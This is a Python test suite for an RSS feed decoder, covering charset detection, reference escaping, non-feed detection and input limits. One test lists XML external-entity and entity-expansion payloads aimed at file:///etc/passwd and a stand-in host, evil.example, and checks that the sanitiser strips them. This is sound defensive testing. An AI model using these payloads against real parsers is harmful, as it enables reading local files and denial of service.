"""The decoding front-end: whatever the labels say, the words are read; what is dangerous does not reach a parser."""

from __future__ import annotations

import importlib.util
from time import process_time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core.errors import ParseError
from core.model import Outcome
from feeds.charset import decode_bytes
from feeds.decode import DECLARATION, challenges, drop_impossible, escape_bare, is_whole, prepare, read_both

RUSSIAN = "Лукашенко помиловал политзаключённых после переговоров с посланником США в Минске"
UKRAINIAN = "Президент Білорусі звільнив політв’язнів після зустрічі з представниками США їхніх родин"
BELARUSIAN = "Праваабаронцы паведамілі пра вызваленне палітвязняў і іхніх сем’яў у Мінску"


def document(text: str, label: str | None) -> str:
    declaration = f'<?xml version="1.0" encoding="{label}"?>' if label else '<?xml version="1.0"?>'
    items = "".join(f"<item><title>{text}</title><link>https://news.example/{n}</link></item>" for n in range(3))
    return f'{declaration}<rss version="2.0"><channel><title>x</title>{items}</channel></rss>'


def test_chardet_is_installed() -> None:
    assert importlib.util.find_spec("chardet"), "without chardet undeclared windows-1251 is read as Latin, silently"


@pytest.mark.parametrize("real", ["cp1251", "koi8-r", "koi8-u", "iso8859-5"])
@pytest.mark.parametrize("label", [None, "windows-1251", "koi8-r", "utf-8", "iso-8859-1", "us-ascii", "nonsense-7"])
@pytest.mark.parametrize("language", ["ru", "uk", "be"])
def test_cyrillic_bytes_are_read_whatever_the_label(real: str, label: str | None, language: str) -> None:
    text = {"ru": RUSSIAN, "uk": UKRAINIAN, "be": BELARUSIAN}[language]
    sendable = "".join(char for char in text.replace("’", "") if char.encode(real, "ignore"))
    assert sendable in decode_bytes(document(sendable, label).encode(real))


@pytest.mark.parametrize("label", [None, "utf-8", "utf-16", "us-ascii", "windows-1251", "iso-8859-1", "koi8-r"])
@pytest.mark.parametrize("text", [RUSSIAN, BELARUSIAN, "Zażółć gęślą jaźń", "Žmogaus teisių gynėjai", "普通 日本"])
def test_utf8_bytes_are_read_whatever_the_label(label: str | None, text: str) -> None:
    body = document(text, label).encode()
    for odd in (body, body + b"\n"):
        assert text in decode_bytes(odd, "text/xml; charset=windows-1251")


def test_one_bad_byte_costs_one_character() -> None:
    body = (
        document(RUSSIAN, "utf-8")
        .encode()
        .replace("после".encode(), b"\xd0\xbf\xd0\xbe\xff\xd1\x81\xd0\xbb\xd0\xb5", 1)
    )
    text = decode_bytes(body)
    assert text.count(RUSSIAN) == 2
    assert "по\ufffdсле переговоров" in text


@pytest.mark.parametrize("codec", ["utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be"])
@pytest.mark.parametrize("mark", [True, False])
@pytest.mark.parametrize("label", ["utf-16", "utf-8", None])
def test_wide_encodings_are_read_with_and_without_mark(codec: str, mark: bool, label: str | None) -> None:
    body = ("\ufeff" if mark else "").encode(codec) + document(RUSSIAN, label).encode(codec)
    assert RUSSIAN in decode_bytes(body)


@pytest.mark.parametrize(
    ("codec", "label", "text"),
    [
        ("cp1250", "windows-1250", "Wolność dla więźniów sumienia"),
        ("iso8859-2", "iso-8859-2", "Wolność dla więźniów sumienia"),
        ("cp1252", "iso-8859-1", "Libérés après négociation – “enfin”"),
        ("cp1257", "windows-1257", "Politiniai kaliniai išleisti į laisvę"),
        ("iso8859-7", "iso-8859-7", "Απελευθερώθηκαν πολιτικοί κρατούμενοι"),
        ("shift_jis", "shift_jis", "政治犯が釈放された"),
        ("gb2312", "gb2312", "政治犯获释"),
        ("iso2022_jp", "iso-2022-jp", "政治犯が釈放された"),
    ],
)
def test_honest_labels_of_other_scripts_are_believed(codec: str, label: str, text: str) -> None:
    assert text in decode_bytes(document(text, label).encode(codec))
    assert text in decode_bytes(document(text, None).encode(codec), f"text/xml; charset={label}")


def test_a_latin_page_with_few_high_bytes_stays_latin() -> None:
    assert "Café du Monde à Vilnius" in decode_bytes(document("Café du Monde à Vilnius", None).encode("cp1252"))


@settings(deadline=None)
@given(st.binary(max_size=400), st.text(max_size=40))
def test_decoding_never_raises(body: bytes, content_type: str) -> None:
    decode_bytes(body, content_type)


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [b"a", "д".encode(), b"\xff", b"\xef\xbb\xbf", b"\x00", b"\x1b", b"~{", b" ", b"\xef\xbf\xbe", b"\n"]
        ),
        max_size=8,
    ),
    st.sampled_from(["", "text/xml; charset=hz", "text/xml; charset=iso-2022-jp", "text/xml; charset=windows-1251"]),
)
def test_a_text_comes_with_itself_in_utf8(parts: list[bytes], content_type: str) -> None:
    body = b"<rss>" + b"".join(parts)
    for whole in (body, b" \n" + body, b"\xef\xbb\xbf" + body):
        text, octets = read_both(whole, content_type)
        assert octets == text.encode()
        assert text == drop_impossible(decode_bytes(whole, content_type)).lstrip("\ufeff \t\r\n")


@settings(deadline=None)
@given(st.sampled_from(["cp1251", "koi8-u", "iso8859-5"]), st.integers(1, 12))
def test_short_cyrillic_is_read_too(codec: str, words: int) -> None:
    text = " ".join(RUSSIAN.split()[:words])
    assert text in decode_bytes(document(text, None).encode(codec))


def rss(inside: str, before: str = "") -> bytes:
    return f"{before}<rss version='2.0'><channel>{inside}</channel></rss>".encode()


def test_the_declaration_is_rewritten_to_what_the_text_is_now() -> None:
    text = prepare(document(RUSSIAN, "windows-1251").encode("cp1251"))
    assert text.startswith(DECLARATION)
    assert text.count("<?xml") == 1


def test_impossible_characters_and_references_are_removed() -> None:
    text = prepare(
        rss("<title>a\x00b\x08c\x1b &#0;&#8;&#x110000;&#99999999999999999999;&#xFFFE;&#65;&#x1F600;</title>")
    )
    assert "<title>abc &#65;&#x1F600;</title>" in text


def test_references_to_halves_of_a_pair_are_joined_or_removed() -> None:
    assert "<title>😀x</title>" in prepare(rss("<title>&#xD83D;&#xDE00;x&#xD83D;</title>"))
    assert "<title>😀</title>" in prepare(rss("<title>&#55357;&#56832;</title>"))


def test_references_mean_what_browsers_read_in_them() -> None:
    text = prepare(rss("<title>&#147;A&#148; &#x97; &#129;b &#65 &#X42; AT&#T</title>"))
    assert "<title>“A” — b &#65; &#66; AT&#T</title>" in text


def test_an_ampersand_that_begins_no_reference_is_escaped_where_it_counts() -> None:
    text = "<a b='x?c=1&d=2'>AT&T & Q&A; &amp; &#65;<![CDATA[R&D]]>&<!-- & -->&<![CDATA[&"
    mended = "<a b='x?c=1&amp;d=2'>AT&amp;T &amp; Q&amp;A; &amp; &#65;<![CDATA[R&D]]>&amp;<!-- & -->&amp;<![CDATA[&amp;"
    assert escape_bare(text) == mended
    assert escape_bare(mended) == mended
    assert escape_bare("<a>R&amp;D</a>") == "<a>R&amp;D</a>"


@pytest.mark.parametrize("unit", ["&", "<![CDATA[&", "<!--&", "&<![CDATA[]]>", "&#", "&#x"])
def test_ampersands_are_escaped_in_time_proportional_to_the_length(unit: str) -> None:
    began = process_time()
    escape_bare(unit * (2_000_000 // len(unit)))
    assert process_time() - began < 20


def test_named_references_of_html_become_characters_and_those_of_xml_stay() -> None:
    text = prepare(rss("<title>a&nbsp;b &mdash; &amp;mdash; &lt;b&gt; &bogus; Q&A</title>"))
    assert "<title>a\xa0b — &amp;mdash; &lt;b&gt; &bogus; Q&A</title>" in text


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE rss [<!ENTITY a "lol"><!ENTITY b "&a;&a;">]>',
        '<!DOCTYPE rss SYSTEM "file:///etc/passwd">',
        '<!DOCTYPE rss PUBLIC "-//X//Y" "http://evil.example/x.dtd" [ <!ENTITY % p SYSTEM "file:///etc/passwd"> %p; ]>',
        '<!doctype rss [<!ENTITY a "]>"> ]  >',
        '<!DOCTYPE rss SYSTEM "<x" [<!ENTITY a "lol"><!ENTITY b SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE rss SYSTEM "a>b" [<!ENTITY a "lol"><!ENTITY b SYSTEM "file:///etc/passwd">]>',
        f'<!DOCTYPE rss SYSTEM "{"x" * 5000}" [<!ENTITY a "lol"><!ENTITY b SYSTEM "file:///etc/passwd">]>',
        """<!DOCTYPE rss [<!-- it's ]> --><?x "]>?><!ENTITY z ']>'><!ENTITY a "'>]><!ENTITY b SYSTEM 'file:///passwd'">]>""",
        "<!DOCTYPE rss SYSTEM it's>",
    ],
)
def test_no_entity_declaration_reaches_the_parser(doctype: str) -> None:
    text = prepare(rss("<title>&b;</title>", "<?xml version='1.0'?>" + doctype))
    assert "<!" not in text
    assert "passwd" not in text
    assert "<title>&b;</title>" in text


def test_an_endless_document_type_is_refused() -> None:
    with pytest.raises(ParseError) as caught:
        prepare(rss("", "<!DOCTYPE rss [<!ENTITY a 'b'>"))
    assert caught.value.outcome is Outcome.PARSE


@pytest.mark.parametrize(
    "inside",
    [
        "<item " + " ".join(f'a{n}="1"' for n in range(5000)) + "/>",
        "<item " + " ".join(f"a{n}='>'" for n in range(5000)) + "/>",
        "<b>" * 3000 + "</b>" * 3000,
    ],
)
def test_storms_are_refused_before_the_parser(inside: str) -> None:
    with pytest.raises(ParseError) as caught:
        prepare(rss(inside))
    assert caught.value.outcome is Outcome.PARSE


def test_a_long_attribute_alone_is_no_storm() -> None:
    picture = "<img src='data:image/png;base64," + "A/" * 20000 + "'/>"
    assert prepare(rss(picture))


def test_unclosed_html_is_no_depth() -> None:
    assert prepare(rss("<description><![CDATA[" + "<br><p>" * 5000 + "]]></description>"))


def test_endless_words_are_cut() -> None:
    assert len(prepare(rss(f"<author>{'a' * 60000}</author>"))) < 3000


@pytest.mark.parametrize(
    ("body", "says"),
    [
        (b"", "empty"),
        (b" \n\t ", "empty"),
        (b"hello world", "text without any markup came instead of a feed (characters: 11)"),
        (b'{"version": "https://jsonfeed.org/version/1.1"}', "JSON"),
        (b"\x89PNG\r\n\x1a\n....", "PNG"),
        (b"%PDF-1.4", "PDF"),
        (b"<!DOCTYPE html><html><head><title>Hello  there</title>", "titled “Hello there”"),
        (b"<!-- <rss> --><html></html>", "web page"),
        (b"<opml version='2.0'></opml>", "OPML"),
        (b"<urlset></urlset>", "sitemap"),
        (b"<catalog><book/></catalog>", "<catalog>"),
    ],
)
def test_what_is_no_feed_is_named(body: bytes, says: str) -> None:
    with pytest.raises(ParseError, match="This is not a feed") as caught:
        prepare(body)
    assert caught.value.outcome is Outcome.NOT_A_FEED
    assert says in str(caught.value)


def test_a_browser_check_is_no_feed_and_blocks() -> None:
    with pytest.raises(ParseError, match=r"The site asks for a browser check .* try another user_agent") as caught:
        prepare(b"<html><title>Just a moment...</title>")
    assert caught.value.outcome is Outcome.BLOCKED


@pytest.mark.parametrize(
    "says",
    ["Подтвердите, что вы не робот", "Я НЕ РОБОТ", "Confirm that you are not a robot.", "hCaptcha", "<b>not a bot</b>"],
)
def test_checks_are_known_by_what_they_say(says: str) -> None:
    assert challenges(f"<html><body>{says}</body></html>")


@pytest.mark.parametrize(
    "says",
    ["Новий склад почне роботу в січні", "не роботой единой", "It was not a botched attempt", "not a bottle was left"],
)
def test_words_that_only_begin_or_end_like_a_check_are_none(says: str) -> None:
    assert not challenges(f"<html><body>{says}</body></html>")


def test_junk_before_a_feed_is_no_reason_to_refuse_it() -> None:
    assert prepare(rss("<title>x</title>", "\n\n<br />Warning: something<br />"))
    assert prepare(rss("<title>x</title>", "<!-- cached > copy --><?xml-stylesheet href='a'?>"))


@pytest.mark.parametrize(
    ("body", "whole"),
    [
        ("<rss><channel></channel></rss>", True),
        ("<rss><channel></channel></rss><!-- 0.1 s -->", True),
        ("<rdf:RDF xmlns='x'></rdf:RDF>", True),
        ("<feed/>", True),
        ("<!-- </rss> --><rss><channel>", False),
        ("<feed><entry></entry>", False),
    ],
)
def test_a_cut_document_is_noticed(body: str, whole: bool) -> None:
    assert is_whole(body) is whole
